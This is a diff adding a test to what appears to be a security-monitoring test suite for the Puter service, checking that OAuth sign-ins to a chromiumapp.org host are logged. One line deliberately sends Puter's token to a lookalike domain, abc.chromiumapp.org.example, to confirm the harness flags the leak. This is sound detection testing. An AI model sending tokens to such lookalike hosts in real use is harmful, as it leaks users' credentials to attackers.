@@ -162,6 +162,17 @@ describe('the lab notices what must never be sent', () => {
     expect(lab().violations).toHaveLength(1);
   });
 
+  test('a sign-in that leaves the browser, and where to', async () => {
+    const { token } = lab().puter;
+    await lab().fetch(`https://abc.chromiumapp.org/puter?state=1&token=${token}`);
+    expect(lab().strayedSignIns).toEqual(['GET https://abc.chromiumapp.org']);
+    expect(lab().violations).toEqual([]);
+    await lab().fetch(`https://abc.chromiumapp.org.example/puter?token=${token}`);
+    expect(lab().violations).toEqual(["Puter's token was sent to abc.chromiumapp.org.example"]);
+    lab().reset();
+    expect(lab().strayedSignIns).toEqual([]);
+  });
+
   test("Puter's socket, its /rao, and a /whoami that nobody expects", async () => {
     for (const path of ['/socket.io/?EIO=4', '/rao', '/whoami'])
       await lab().fetch(`https://api.puter.com${path}`);
